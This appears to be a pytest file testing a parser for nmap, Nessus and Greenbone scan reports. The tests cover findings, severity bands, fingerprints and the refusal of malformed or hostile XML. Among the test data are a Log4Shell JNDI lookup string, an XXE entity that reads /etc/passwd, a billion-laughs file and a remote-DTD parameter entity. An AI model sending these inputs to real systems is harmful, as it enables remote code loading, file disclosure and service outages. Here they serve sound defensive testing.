"""parse_report over real-format sample files (tests/data/security), and every way a file is refused.

The samples are trimmed real reports, addresses moved to 127.0.0.1 and the documentation ranges: nmap 7.93 output
of a loopback scan plus a vulners and an smb-vuln-ms17-010 result as nmap writes them; a Nessus 10.8 export; a
Greenbone 22.4 (GMP 22.6) XML report as GSA downloads it.
"""

from __future__ import annotations

import dataclasses
import hashlib
from collections import Counter
from pathlib import Path

import pytest

from cloudctl.core.errors import InvalidInput
from cloudctl.security.scanners import ScanFinding, ScanReport, nessus_severity, parse_report, severity_from_score
from cloudctl.security.scanners.base import EVIDENCE_LIMIT, normalise_title, trim_evidence

DATA = Path(__file__).resolve().parents[2] / "data" / "security"


def _read(name: str) -> bytes:
    return (DATA / name).read_bytes()


def _by(report: ScanReport, plugin_id: str, ip: str | None = None) -> list[ScanFinding]:
    return [f for f in report.findings if f.plugin_id == plugin_id and (ip is None or f.ip == ip)]


def _one(report: ScanReport, plugin_id: str, ip: str | None = None) -> ScanFinding:
    found = _by(report, plugin_id, ip)
    assert len(found) == 1, found
    return found[0]


# -- nmap -----------------------------------------------------------------------------------------------------------


def test_nmap_open_ports_scripts_and_hosts() -> None:
    data = _read("nmap-localhost.xml")
    report = parse_report(data, "nmap")

    assert report.scanner == "nmap"
    assert report.file_sha256 == hashlib.sha256(data).hexdigest()
    assert report.hosts == ("127.0.0.1", "192.0.2.10")  # 192.0.2.11 was down
    assert report.started_at is not None
    assert report.finished_at is not None
    assert report.started_at.isoformat() == "2026-11-25T15:20:00+00:00"
    assert (report.finished_at - report.started_at).total_seconds() == 12
    assert len(report.findings) == 8
    assert Counter(f.plugin_id for f in report.findings) == {
        "open-port": 4, "http-server-header": 1, "http-title": 1, "vulners": 1, "smb-vuln-ms17-010": 1}
    # Only open ports: the filtered 443 and the closed 445 on 127.0.0.1 are not findings.
    assert sorted((f.ip, f.port, f.service) for f in _by(report, "open-port")) == [
        ("127.0.0.1", 22, "ssh"), ("127.0.0.1", 80, "http"), ("192.0.2.10", 22, "ssh"),
        ("192.0.2.10", 445, "microsoft-ds")]

    ssh = next(f for f in _by(report, "open-port", "127.0.0.1") if f.port == 22)
    assert ssh.title == "Open port 22/tcp (ssh OpenSSH 9.2p1 Debian 2)"
    assert (ssh.severity, ssh.protocol, ssh.hostname, ssh.cve, ssh.cvss) == ("info", "tcp", "localhost", (), None)
    assert "cpe:/a:openbsd:openssh:9.2p1" in ssh.evidence

    title = _one(report, "http-title")
    assert (title.port, title.service, title.severity, title.evidence) == (80, "http", "info", "cloudctl test")


def test_nmap_vulners_is_mapped_by_its_highest_cvss() -> None:
    report = parse_report(_read("nmap-localhost.xml"), "nmap")

    vulners = _one(report, "vulners")
    assert (vulners.ip, vulners.port, vulners.protocol, vulners.service) == ("192.0.2.10", 22, "tcp", "ssh")
    assert vulners.cve == ("CVE-2023-38408", "CVE-2018-15919", "CVE-2017-15906")  # PACKETSTORM ids are not CVEs
    assert vulners.cvss == 9.8
    assert vulners.severity == "critical"
    assert vulners.hostname == "web01.example.gov.test"  # the name it was asked to scan, before reverse DNS
    assert "cpe:/a:openbsd:openssh:7.4" in vulners.title


def test_nmap_vuln_category_host_script() -> None:
    report = parse_report(_read("nmap-localhost.xml"), "nmap")

    ms17 = _one(report, "smb-vuln-ms17-010")
    assert (ms17.port, ms17.protocol, ms17.service) == (None, None, None)  # a host script
    assert ms17.cve == ("CVE-2017-0143",)
    assert ms17.cvss == 9.3
    assert ms17.severity == "critical"
    assert ms17.title.startswith("Remote Code Execution vulnerability in Microsoft SMBv1 servers (ms17-010)")
    assert "VULNERABLE" in ms17.title
    assert "remote code execution" in ms17.description


def test_nmap_vuln_script_without_score_or_not_vulnerable_stays_info() -> None:
    xml = _nmap_with_script(
        '<script id="ssl-heartbleed" output="NOT VULNERABLE"><table key="CVE-2014-0160">'
        '<elem key="title">The Heartbleed Bug</elem><elem key="state">NOT VULNERABLE</elem>'
        '<table key="ids"><elem>CVE:CVE-2014-0160</elem></table>'
        '<table key="scores"><elem key="CVSSv2">5.0</elem></table></table></script>')
    finding = _one(parse_report(xml, "nmap"), "ssl-heartbleed")
    assert (finding.severity, finding.cvss, finding.cve) == ("info", None, ("CVE-2014-0160",))


def _nmap_with_script(script: str) -> bytes:
    return (
        '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE nmaprun>\n'
        '<nmaprun scanner="nmap" start="1795620000" version="7.93" xmloutputversion="1.05">'
        '<host><status state="up"/><address addr="127.0.0.1" addrtype="ipv4"/><ports>'
        '<port protocol="tcp" portid="443"><state state="open"/><service name="https"/>'
        f'{script}</port></ports></host></nmaprun>').encode()


# -- Nessus ---------------------------------------------------------------------------------------------------------


def test_nessus_items_severities_cves_and_ports() -> None:
    data = _read("nessus-small.nessus")
    report = parse_report(data, "nessus")

    assert report.scanner == "nessus"
    assert report.file_sha256 == hashlib.sha256(data).hexdigest()
    assert report.hosts == ("192.0.2.20", "198.51.100.7")
    assert report.started_at is not None
    assert report.finished_at is not None
    assert report.started_at.isoformat() == "2025-03-06T06:04:12+00:00"  # HOST_START_TIMESTAMP 1741241052
    assert report.finished_at.isoformat() == "2025-03-06T06:31:40+00:00"  # the text HOST_END of the second host
    assert len(report.findings) == 8
    assert Counter(f.severity for f in report.findings) == {"info": 3, "low": 1, "medium": 2, "high": 1,
                                                            "critical": 1}

    openssh = _one(report, "187201")
    assert openssh.title == "OpenSSH < 9.6 Multiple Vulnerabilities"
    assert (openssh.ip, openssh.port, openssh.protocol, openssh.service) == ("192.0.2.20", 22, "tcp", "ssh")
    assert openssh.cve == ("CVE-2023-48795", "CVE-2023-51384", "CVE-2023-51385")
    assert openssh.cvss == 6.5  # CVSS v3 before v2 (6.4)
    assert openssh.severity == "medium"
    assert openssh.solution == "Upgrade to OpenSSH version 9.6 or later."
    assert "Fixed version     : 9.6" in openssh.evidence
    assert openssh.hostname == "portal.example.gov.test"
    assert openssh.description.startswith("The SSH server running on the remote host")

    icmp = _one(report, "10114")
    assert (icmp.port, icmp.protocol, icmp.service) == (None, None, None)  # port 0, icmp, "general"
    assert (icmp.cvss, icmp.severity, icmp.cve) == (2.1, "low", ("CVE-1999-0524",))  # only CVSS v2 given
    assert icmp.hostname == "FILESRV01"

    ms17 = _one(report, "97833")
    assert ms17.severity == "critical"  # Nessus' own severity wins over the CVSS v3 band (8.1 would be high)
    assert ms17.cvss == 8.1
    assert len(ms17.cve) == 6
    assert (ms17.port, ms17.service) == (445, "cifs")

    info = _one(report, "19506")
    assert (info.severity, info.port, info.service, info.solution) == ("info", None, None, "")  # "n/a" dropped
    assert "Nessus version : 10.8.3" in info.evidence


# -- Greenbone ------------------------------------------------------------------------------------------------------


def test_gvm_results_severity_bands_cves_and_ports() -> None:
    data = _read("gvm-report.xml")
    report = parse_report(data, "gvm")

    assert report.scanner == "gvm"
    assert report.hosts == ("192.0.2.30", "198.51.100.8")
    assert report.started_at is not None
    assert report.started_at.isoformat() == "2025-03-05T22:01:38+00:00"  # 06:01:38+08:00
    assert report.finished_at is not None
    assert report.finished_at.isoformat() == "2025-03-05T23:09:57+00:00"
    # Six results; the one overridden to False Positive (severity -1.0) is not a finding, and the <result> nested
    # in <detection> is not a result of the report.
    assert len(report.findings) == 5
    assert Counter(f.severity for f in report.findings) == {"critical": 1, "high": 1, "medium": 1, "low": 1,
                                                            "info": 1}

    log4j = _one(report, "1.3.6.1.4.1.25623.1.0.117842")
    assert (log4j.ip, log4j.port, log4j.protocol, log4j.hostname) == ("198.51.100.8", 8080, "tcp",
                                                                      "app08.example.gov.test")
    assert (log4j.severity, log4j.cvss, log4j.cve) == ("critical", 10.0, ("CVE-2021-44228",))
    assert log4j.solution == "Update to version 2.15.0 or later."
    assert log4j.description.startswith("Apache Log4j is prone to a remote code execution")
    assert "${jndi:ldap://198.51.100.2:31337/a}" in log4j.evidence

    ciphers = _one(report, "1.3.6.1.4.1.25623.1.0.108031")
    assert (ciphers.port, ciphers.severity, ciphers.cvss) == (443, "high", 7.5)
    assert ciphers.cve == ("CVE-2016-2183", "CVE-2016-6329")

    kex = _one(report, "1.3.6.1.4.1.25623.1.0.150713")
    assert (kex.port, kex.severity, kex.cve) == (22, "medium", ())

    timestamps = _one(report, "1.3.6.1.4.1.25623.1.0.80091")
    assert (timestamps.port, timestamps.protocol, timestamps.severity) == (None, "tcp", "low")  # general/tcp

    os_detection = _one(report, "1.3.6.1.4.1.25623.1.0.105937")
    assert (os_detection.severity, os_detection.cvss) == ("info", None)


def test_gvm_get_reports_response_wrapper_and_old_style_cves() -> None:
    inner = _read("gvm-report.xml").split(b"?>", 1)[1]
    wrapped = b'<get_reports_response status="200" status_text="OK">' + inner + b"</get_reports_response>"
    report = parse_report(wrapped, "gvm")
    assert [f.fingerprint for f in report.findings] == [
        f.fingerprint for f in parse_report(_read("gvm-report.xml"), "gvm").findings]

    old = (b'<report id="x" format_id="a994b278-1f62-11e1-96ac-406186ea4fc5"><results><result id="r">'
           b'<host>192.0.2.31</host><port>https (443/tcp)</port>'
           b'<nvt oid="1.3.6.1.4.1.25623.1.0.902830"><name>Apache httpOnly Cookie Disclosure</name>'
           b'<cvss_base>4.3</cvss_base><cve>CVE-2012-0053</cve><tags>cvss_base_vector=AV:N/AC:M/Au:N/C:P/I:N/A:N'
           b'</tags></nvt><threat>Medium</threat><severity>4.3</severity></result></results></report>')
    finding = _one(parse_report(old, "gvm"), "1.3.6.1.4.1.25623.1.0.902830")
    assert (finding.port, finding.service, finding.cve, finding.severity) == (443, "https", ("CVE-2012-0053",),
                                                                              "medium")

    with pytest.raises(InvalidInput, match="status 400"):
        parse_report(b'<get_reports_response status="400" status_text="Bogus"/>', "gvm")


# -- severities -----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(("score", "band"), [
    (10.0, "critical"), (9.0, "critical"), (8.9, "high"), (7.0, "high"), (6.9, "medium"), (4.0, "medium"),
    (3.9, "low"), (0.1, "low"), (0.0, "info"), (-1.0, "info")])
def test_severity_from_score_bands(score: float, band: str) -> None:
    assert severity_from_score(score) == band


def test_nessus_severity_scale() -> None:
    assert [nessus_severity(n) for n in range(5)] == ["info", "low", "medium", "high", "critical"]
    assert nessus_severity("3") == "high"
    with pytest.raises(ValueError, match="not one of"):
        nessus_severity(5)


# -- fingerprints ---------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(("name", "fmt"), [("nmap-localhost.xml", "nmap"), ("nessus-small.nessus", "nessus"),
                                           ("gvm-report.xml", "gvm")])
def test_fingerprints_are_stable_across_imports_and_unique_within_a_file(name: str, fmt: str) -> None:
    first = parse_report(_read(name), fmt)  # type: ignore[arg-type]
    second = parse_report(_read(name), fmt)  # type: ignore[arg-type]
    assert [f.fingerprint for f in first.findings] == [f.fingerprint for f in second.findings]
    assert len({f.fingerprint for f in first.findings}) == len(first.findings)
    assert all(len(f.fingerprint) == 64 and int(f.fingerprint, 16) >= 0 for f in first.findings)


def test_fingerprints_survive_a_rescan_that_changes_only_times_hostnames_and_evidence() -> None:
    original = _read("nessus-small.nessus")
    rescan = (original.replace(b"1741241052", b"1743919452").replace(b"Thu Mar  6", b"Sun Apr  6")
              .replace(b"portal.example.gov.test", b"portal-new.example.gov.test")
              .replace(b"Plugin feed version : 202503050924", b"Plugin feed version : 202504050712")
              .replace(b"Scan duration : 900 sec", b"Scan duration : 1210 sec"))
    before, after = parse_report(original, "nessus"), parse_report(rescan, "nessus")
    assert before.file_sha256 != after.file_sha256
    assert before.started_at != after.started_at
    assert [f.evidence for f in before.findings] != [f.evidence for f in after.findings]
    assert [f.hostname for f in before.findings] != [f.hostname for f in after.findings]
    assert [f.fingerprint for f in before.findings] == [f.fingerprint for f in after.findings]

    nmap_before = parse_report(_read("nmap-localhost.xml"), "nmap")
    nmap_after = parse_report(_read("nmap-localhost.xml").replace(b'start="1795620000"', b'start="1798298400"')
                              .replace(b"cloudctl test", b"cloudctl test, redesigned")
                              .replace(b'name="localhost"', b'name="loopback.example.test"'), "nmap")
    assert [f.fingerprint for f in nmap_before.findings] == [f.fingerprint for f in nmap_after.findings]


def test_fingerprint_changes_with_port_plugin_address_protocol_service_and_family() -> None:
    base = ScanFinding(scanner="nessus", plugin_id="187201", title="OpenSSH < 9.6 Multiple Vulnerabilities",
                       severity="medium", ip="192.0.2.20", port=22, protocol="tcp", service="ssh")
    changed = [dataclasses.replace(base, port=2222), dataclasses.replace(base, plugin_id="187202"),
               dataclasses.replace(base, ip="192.0.2.21"), dataclasses.replace(base, protocol="udp"),
               dataclasses.replace(base, service="www"), dataclasses.replace(base, scanner="gvm"),
               dataclasses.replace(base, port=None)]
    fingerprints = {base.fingerprint, *(f.fingerprint for f in changed)}
    assert len(fingerprints) == 1 + len(changed)

    same = [dataclasses.replace(base, title="renamed", severity="high", cvss=6.5, cve=("CVE-2023-48795",),
                                evidence="other output", hostname="x.example", description="d", solution="s"),
            dataclasses.replace(base, service="SSH ")]
    assert {f.fingerprint for f in same} == {base.fingerprint}


def test_fingerprint_without_plugin_id_uses_the_normalised_title() -> None:
    one = ScanFinding(scanner="gvm", plugin_id="", title="OpenSSH  9.2p1\n< 9.3  Vulnerability", severity="low",
                      ip="2001:DB8::0:1", port=22, protocol="tcp", service=None)
    assert normalise_title(one.title) == "openssh 9.2p1 < 9.3 vulnerability"
    same = dataclasses.replace(one, title="openssh 9.2p1 < 9.3 VULNERABILITY", ip="2001:db8::1")
    other_version = dataclasses.replace(one, title="OpenSSH 9.2p1 < 9.6 Vulnerability")
    assert one.fingerprint == same.fingerprint  # case, spacing and the IPv6 spelling do not matter
    assert one.fingerprint != other_version.fingerprint  # version digits do


def test_evidence_is_trimmed() -> None:
    assert trim_evidence("  short  ") == "short"
    long = trim_evidence("x" * (EVIDENCE_LIMIT + 500))
    assert long.startswith("x" * EVIDENCE_LIMIT)
    assert long.endswith("[500 more characters not kept]")

    xml = _nmap_with_script(f'<script id="ssl-cert" output="{"A" * 20000}"/>')
    assert len(_one(parse_report(xml, "nmap"), "ssl-cert").evidence) < EVIDENCE_LIMIT + 100


# -- refusals -------------------------------------------------------------------------------------------------------


def _refused(data: bytes, fmt: str, **kwargs: int) -> InvalidInput:
    with pytest.raises(InvalidInput) as caught:
        parse_report(data, fmt, **kwargs)  # type: ignore[arg-type]
    assert caught.value.field == "file"
    return caught.value


@pytest.mark.parametrize("fmt", ["nmap", "nessus", "gvm"])
def test_billion_laughs_is_refused_before_expansion(fmt: str) -> None:
    error = _refused(_read("billion-laughs.xml"), fmt)
    assert "entity 'lol'" in error.detail
    assert "billion laughs" in error.detail


@pytest.mark.parametrize("fmt", ["nmap", "nessus", "gvm"])
def test_external_entity_is_refused(fmt: str) -> None:
    error = _refused(_read("external-entity.xml"), fmt)
    assert "external entity 'xxe' (file:///etc/passwd)" in error.detail
    assert "root:" not in error.detail


def test_any_other_dtd_is_refused_even_in_nmap_files() -> None:
    external_dtd = b'<?xml version="1.0"?>\n<!DOCTYPE NessusClientData_v2 SYSTEM "http://198.51.100.9/n.dtd">\n' \
                   b"<NessusClientData_v2/>"
    error = _refused(external_dtd, "nessus")
    assert "declares a DTD" in error.detail
    assert "http://198.51.100.9/n.dtd" in error.detail

    parameter_entity = (b'<?xml version="1.0"?><!DOCTYPE nmaprun [<!ENTITY % remote SYSTEM '
                        b'"http://198.51.100.9/x.dtd"> %remote;]><nmaprun/>')
    assert "external entity 'remote'" in _refused(parameter_entity, "nmap").detail

    internal_subset = b'<?xml version="1.0"?><!DOCTYPE nmaprun [<!ELEMENT nmaprun ANY>]><nmaprun/>'
    assert "declares a DTD" in _refused(internal_subset, "nmap").detail
    # nmap's own bare <!DOCTYPE nmaprun> is the one declaration let through: it declares nothing.
    assert "found <nmaprun>" in _refused(b"<!DOCTYPE nmaprun><nmaprun/>", "gvm").detail
    assert parse_report(b"<!DOCTYPE nmaprun>\n<nmaprun/>", "nmap").findings == ()


def test_broken_xml_names_line_and_column() -> None:
    error = _refused(_read("broken.xml"), "nmap")
    assert error.detail.startswith("the file is not well-formed XML: mismatched tag at line 6, column ")
    assert error.extra["line"] == 6
    assert "line 1" in _refused(b"<nmaprun", "nmap").detail


@pytest.mark.parametrize(("name", "fmt", "expected", "found"), [
    ("nessus-small.nessus", "nmap", "<nmaprun>", "<NessusClientData_v2>"),
    ("gvm-report.xml", "nessus", "<NessusClientData_v2>", "<report>"),
    ("nmap-localhost.xml", "gvm", "<report> or <get_reports_response>", "<nmaprun>"),
])
def test_wrong_root_names_expected_and_found(name: str, fmt: str, expected: str, found: str) -> None:
    error = _refused(_read(name), fmt)
    assert f"expected the root element {expected}, found {found}" in error.detail


def test_oversized_and_empty_files_are_refused_before_parsing() -> None:
    data = _read("nessus-small.nessus")
    error = _refused(data, "nessus", max_bytes=len(data) - 1)
    assert f"{len(data):,} bytes, over the limit of {len(data) - 1:,}" in error.detail
    # Refused by size before parsing: a hostile file over the limit is reported as too big, not parsed at all.
    assert "over the limit" in _refused(_read("billion-laughs.xml"), "nessus", max_bytes=100).detail
    assert "empty" in _refused(b"  \n", "nmap").detail


def test_unknown_format_is_refused() -> None:
    with pytest.raises(InvalidInput) as caught:
        parse_report(b"<nmaprun/>", "masscan")  # type: ignore[arg-type]
    assert caught.value.field == "format"


def test_malformed_values_are_refused_with_the_file_field() -> None:
    bad_severity = (b'<NessusClientData_v2><Report><ReportHost name="192.0.2.1"><ReportItem port="22" '
                    b'protocol="tcp" severity="high" pluginID="1" pluginName="x"/></ReportHost></Report>'
                    b"</NessusClientData_v2>")
    assert "severity 'high'" in _refused(bad_severity, "nessus").detail
    bad_port = _nmap_with_script("").replace(b'portid="443"', b'portid="https"')
    with pytest.raises(InvalidInput) as caught:
        parse_report(bad_port, "nmap")
    assert str(caught.value) == "host[1]/ports/port[1].port: 'https' is not a port number"
